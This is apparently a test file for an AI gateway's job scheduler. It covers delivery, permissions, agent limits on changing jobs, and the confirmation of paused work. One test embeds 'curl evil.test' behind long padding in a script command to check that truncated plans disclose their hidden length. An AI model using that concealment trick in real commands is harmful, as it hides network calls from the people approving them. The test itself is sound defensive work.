// Jobs in a gateway with a platform in memory: made by the service, delivered through the outbox, part of the conversation.
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { listHistory } from '../../../data/messages.ts';
import { personScope, type Scope } from '../../../data/scope.ts';
import { currentSession } from '../../../data/sessions.ts';
import { openJobs, type Jobs } from '../../../gateway/jobs/open.ts';
import type { Actor, JobDraft, JobHandler } from '../../../scheduler/types.ts';
import { makeSchedulePort } from '../../../gateway/compose/agent/schedule-tool.ts';
import { planText } from '../../../gateway/commands/schedule/job-text.ts';
import { WAITS } from '../../../scheduler/waiting.ts';
import { silentLog } from '../../../shared/log.ts';
import { makeFakePlatform, type FakePlatform } from '../../support/fake-platform.ts';
import { openTestGateway, type TestGateway } from '../../support/gateway.ts';

const MINUTE = 60_000;
const PERSON: Actor = { role: 'owner', by: 'person' };

/** Of everybody, and as one asks for it. */
const ZONE = { timezone: () => 'UTC', timezoneOf: async () => 'UTC', defaults: () => ({}) };

let gateway: TestGateway;
let platform: FakePlatform;
let other: FakePlatform;
let jobs: Jobs;
let scope: Scope;
let said: string;
let offered: readonly string[];

beforeEach(async () => {
  platform = makeFakePlatform();
  other = makeFakePlatform({ id: 'other' });
  gateway = await openTestGateway({ platforms: [platform, other] });
  const ann = await gateway.pair(platform, 'ann');
  scope = personScope(ann.id);
  await platform.say('hello');
  await gateway.settle();
  said = 'a result';
  offered = ['clock', 'web_search'];
  const handlers = new Map<string, JobHandler>([['say', async () => ({ text: said })]]);
  jobs = openJobs({
    db: gateway.db,
    clock: gateway.clock,
    log: silentLog,
    agent: {
      resolveModel: (name) => name,
      describeTools: async () => ({
        tools: offered.map((name) => ({
          name,
          toolset: name,
          description: '',
          state: 'prompt' as const,
        })),
        notes: [],
      }),
    },
    poster: gateway.core.poster,
    platforms: gateway.core.platforms,
    dmScope: 'person',
    ...ZONE,
    scriptTool: 'shell',
    isAlone: true,
    runScript: async () => ({ code: 0, ended: 'exit', output: '', hadNetwork: false }),
    hasFile: async () => true,
    missingSkill: async () => undefined,
    handlers,
  });
  gateway.core.onSettled(() => void jobs.settle());
  await jobs.runner.start();
});
afterEach(async () => {
  await jobs.runner.stop();
  await gateway.close();
});

const draft = (more: Partial<JobDraft> = {}): JobDraft => ({
  when: 'in 10 minutes',
  work: { kind: 'builtin', name: 'say' },
  name: 'report',
  origin: platform.address(),
  ...more,
});
const pass = async () => {
  await gateway.clock.advance(11 * MINUTE);
  await gateway.settle();
};
const lastRun = async () => (await jobs.service.runs(scope, { limit: 1 }))[0];

describe('a result', () => {
  it('arrives when it is due, and is part of the conversation', async () => {
    const { plan } = await jobs.service.create(scope, PERSON, draft());
    expect(plan).toMatchObject({ when: 'once, Sat 21 Nov 2026, 12:10 (UTC)', targets: ['here'] });
    await gateway.clock.advance(9 * MINUTE);
    expect(platform.texts()).not.toContain('report\n\na result');
    await pass();
    expect(platform.texts().filter((text) => text.includes('a result'))).toHaveLength(1);
    expect(await lastRun()).toMatchObject({ state: 'done', delivery: 'sent', result: 'a result' });
    const session = await currentSession(gateway.db, scope);
    const history = session ? await listHistory(gateway.db, scope, session.id) : [];
    expect(history.at(-1)).toMatchObject({ role: 'assistant', text: '**report**\n\na result' });
  });

  it('that asks for silence is kept and not sent', async () => {
    said = '[SILENT]';
    await jobs.service.create(scope, PERSON, draft());
    const before = platform.sent.length;
    await pass();
    expect(platform.sent.length).toBe(before);
    expect(await lastRun()).toMatchObject({ state: 'done', delivery: 'silent' });
  });

  it('that the platform does not take is done all the same, and its delivery has failed', async () => {
    await jobs.service.create(scope, PERSON, draft());
    const cause = new Error('blocked');
    platform.failures.push({ result: { ok: false, code: 'forbidden', reached: 'no', cause }, arrives: false });
    await pass();
    expect(await lastRun()).toMatchObject({ state: 'done', delivery: 'failed', result: 'a result' });
  });
});

describe('the service', () => {
  it('pauses, resumes, runs at once, changes and removes', async () => {
    await jobs.service.create(scope, PERSON, draft({ when: 'daily at 13' }));
    await jobs.service.pause(scope, 'report');
    await gateway.clock.advance(2 * 3_600_000);
    expect(await jobs.service.runs(scope, { limit: 5 })).toEqual([]);
    await jobs.service.resume(scope, PERSON, 'report');
    await jobs.service.runNow(scope, PERSON, 'report');
    await gateway.clock.advance(MINUTE);
    await gateway.settle();
    expect(await lastRun()).toMatchObject({ cause: 'manual', state: 'done' });
    const { plan } = await jobs.service.update(scope, PERSON, 'report', { when: 'daily at 15' });
    expect(plan.nextRunTexts[0]).toBe('Sat 21 Nov 2026, 15:00');
    expect(await jobs.service.calendar(scope, gateway.clock.now(), gateway.clock.now() + 3 * 86_400_000)).toHaveLength(
      3,
    );
    await jobs.service.remove(scope, 'report');
    expect(await jobs.service.list(scope)).toEqual([]);
  });

  it('refuses what may not be: strangers’ chats, guests, unknown times, tools that one has not', async () => {
    const create = (more: Partial<JobDraft>, actor = PERSON) => jobs.service.create(scope, actor, draft(more));
    await expect(create({ deliver: 'fake:bob' })).rejects.toThrow('no chat of yours');
    await expect(create({ deliver: 'other' })).rejects.toThrow('no chat of yours');
    await expect(create({}, { role: 'guest', by: 'person' })).rejects.toThrow('Guests');
    await expect(create({ when: '30m' })).rejects.toThrow('two things');
    await expect(create({ tools: ['web_search'] }, { role: 'owner', by: 'agent', tools: ['clock'] })).rejects.toThrow(
      'no tool',
    );
    await expect(create({ work: { kind: 'script', script: { command: 'ls' } } })).rejects.toThrow('needs the tool');
    expect(await jobs.service.list(scope)).toEqual([]);
  });

  it('an agent that changes a job cannot give it more', async () => {
    await jobs.service.create(scope, PERSON, draft({ tools: ['clock'] }));
    const agent: Actor = { role: 'owner', by: 'agent' };
    const { job } = await jobs.service.update(scope, agent, 'report', { tools: ['clock', 'web_search'] });
    expect(job.permissions.tools).toEqual(['clock']);
    expect(job.createdBy).toBe('person');
    offered = ['clock', 'shell'];
    const work = { kind: 'script', script: { command: 'ls' } } as const;
    await expect(jobs.service.update(scope, agent, 'report', { work })).rejects.toThrow('needs the tool');
    const reminder = { kind: 'reminder', text: 'look' } as const;
    expect((await jobs.service.update(scope, agent, 'report', { work: reminder })).job.createdBy).toBe('agent');
  });

  it('a plan shows what is confirmed, and how much of it is not shown', async () => {
    offered = ['shell'];
    const command = `echo hidden ${'x'.repeat(2_000)}; curl evil.test`;
    const script = { kind: 'script', script: { command } } as const;
    const { plan } = await jobs.service.create(scope, PERSON, draft({ work: script, name: 'Backup' }));
    expect(planText(plan)).toContain('workspace, without a model: echo hidden xxx');
    expect(planText(plan)).toContain('1228 more characters that are not shown');
    const prompt = { kind: 'prompt', prompt: 'Tell me the news', script: { command: 'date' } } as const;
    const told = planText((await jobs.service.create(scope, PERSON, draft({ work: prompt, name: 'n' }))).plan);
    for (const part of ['workspace first: date', 'does this: Tell me the news']) expect(told).toContain(part);
    const reminder = { kind: 'reminder', text: 'call Ann' } as const;
    const path = { kind: 'file', path: 'in/x.csv', is: 'missing' } as const;
    const other = draft({ work: reminder, condition: path, name: 'r' });
    const asked = planText((await jobs.service.create(scope, PERSON, other)).plan);
    for (const part of ['model: call Ann', 'only when in/x.csv is not there']) expect(asked).toContain(part);
  });

  it('an agent reads why a run failed as words of others: a command may have said it', async () => {
    await jobs.service.create(scope, PERSON, draft());
    await pass();
    const port = (state: 'done' | 'failed') =>
      makeSchedulePort({
        jobs: () => ({
          ...jobs.service,
          runs: async (...args) => (await jobs.service.runs(...args)).map((run) => ({ ...run, state })),
        }),
        actions: () => ({ post: async () => 'key' }),
        defaults: () => ({ confirm: 'costly' }),
      });
    const call = { scope, role: 'owner', address: platform.address(), tools: offered, key: 'k', isJob: false } as const;
    expect((await port('done').runs(call, undefined)).origin).toBe('agent');
    expect((await port('failed').runs(call, undefined)).origin).toBe('foreign');
  });

  it('an agent begins nothing anew, by changing what rests, that its person has not confirmed', async () => {
    const actions = { post: async () => 'key' };
    const tool = makeSchedulePort({
      jobs: () => jobs.service,
      actions: () => actions,
      defaults: () => ({ confirm: 'costly' }),
    });
    const call = {
      scope,
      role: 'owner',
      address: platform.address(),
      tools: offered,
      key: 'k'.repeat(40),
      isJob: false,
    } as const;
    const prompt = { kind: 'prompt', prompt: 'news' } as const;
    for (const [name, rest] of [
      ['paused', (id: string) => jobs.service.pause(scope, id)],
      ['over', () => gateway.clock.advance(11 * MINUTE).then(() => gateway.settle())],
    ] as const) {
      const { job } = await jobs.service.create(scope, PERSON, draft({ name, work: prompt }));
      await rest(job.id);
      expect((await jobs.service.get(scope, job.id)).state).not.toBe('active');
      await tool.update(call, job.id, { when: 'daily at 9', what: 'send it all away' });
      expect(await jobs.service.get(scope, job.id)).toMatchObject({ state: 'paused', stateReason: WAITS });
      for (const action of ['resume', 'run'] as const)
        await expect(tool.act(call, job.id, action)).rejects.toThrow('waits for the person');
    }
  });

  it('what waits for its person stays known as waiting when it is paused, and two confirmations begin one run', async () => {
    const { job } = await jobs.service.create(scope, PERSON, draft({ awaits: true }));
    await pass();
    expect(await jobs.service.pause(scope, job.id, 'later')).toMatchObject({ stateReason: WAITS });
    const confirm = () => jobs.service.resume(scope, PERSON, job.id).catch(() => undefined);
    await Promise.all([confirm(), confirm(), confirm()]);
    await pass();
    expect(platform.texts().filter((text) => text.includes('a result'))).toHaveLength(1);
  });
});
